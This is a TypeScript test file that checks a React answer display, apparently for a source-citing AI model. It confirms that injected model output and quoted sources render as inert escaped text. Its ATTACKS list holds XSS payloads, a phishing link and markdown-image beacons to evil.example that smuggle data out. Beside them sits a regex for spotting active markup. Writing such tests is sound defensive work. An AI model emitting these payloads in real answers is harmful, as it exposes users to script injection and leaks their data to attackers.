import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { AnswerText } from "./answer-text";
import type { Citation } from "../../api/generated/answers";
import { ANSWER, sentence } from "../../testing/answers";
import { SourceList } from "./source-list";

// What a document may make a model say: none of it may load, run or lead anywhere.
const ATTACKS = [
  "![status](https://evil.example/collect?q=1)",
  "[the manual](https://evil.example/login)",
  "<img src=x onerror=alert(1)>",
  "<script>fetch('https://evil.example')</script>",
  "<a href='javascript:alert(1)'>here</a>",
  "https://evil.example/plain",
];
const ignored = () => undefined;
const active = /<(img|script|iframe|svg|style|link|object)\b|href="(?!#)|src=|srcset=|onerror=(?!alert)/i;

describe.each(ATTACKS)("the answer %s", (text) => {
  const escaped = text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("'", "&#x27;");

  it("is shown as text, sentence by sentence or whole", () => {
    const whole = { ...ANSWER, answer: text };
    const checked = { ...whole, sentences: [sentence(text, { markers: [1] })] };
    for (const answer of [whole, checked]) {
      const shown = renderToStaticMarkup(<AnswerText answer={answer} onSource={ignored} />);
      expect(shown).toContain(escaped);
      expect(shown.replaceAll(escaped, "")).not.toMatch(active);
    }
  });

  it("is shown as text where a source is quoted", () => {
    const citation = { marker: 1, title: text, section: text, quote: text, page: null } as Citation;
    const shown = renderToStaticMarkup(<SourceList citations={[citation]} onSource={ignored} />);
    expect(shown).toContain(escaped);
    expect(shown.replaceAll(escaped, "")).not.toMatch(active);
  });
});

it("marks every sentence that is not supported, one that could not be checked too", () => {
  const sentences = [sentence("Yes."), sentence("Nein.", { verdict: "unchecked" }), sentence("No.", { verdict: "contradicted" })];
  const shown = renderToStaticMarkup(<AnswerText answer={{ ...ANSWER, sentences }} onSource={ignored} />);
  expect(shown.match(/class="verdict /g)).toHaveLength(2);
  expect(shown).toContain("Not checked");
});

